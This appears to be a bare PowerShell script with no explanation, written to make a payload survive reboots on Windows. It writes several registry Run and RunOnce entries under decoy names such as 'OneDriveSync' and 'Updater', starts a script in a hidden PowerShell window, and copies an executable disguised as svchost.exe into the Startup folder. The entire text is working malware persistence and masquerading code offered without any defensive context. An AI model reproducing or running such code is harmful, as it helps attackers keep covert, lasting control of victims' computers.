$payload = 'C:\Users\Public\Libraries\svchost.exe'
Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'OneDriveSync' -Value $payload
New-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce' -Name 'Updater' -Value "powershell -w hidden -File C:\Users\Public\u.ps1" -PropertyType String -Force
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Helper /t REG_SZ /d "C:\Users\Public\helper.exe" /f
Copy-Item -Path $payload -Destination "$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\sync.exe"
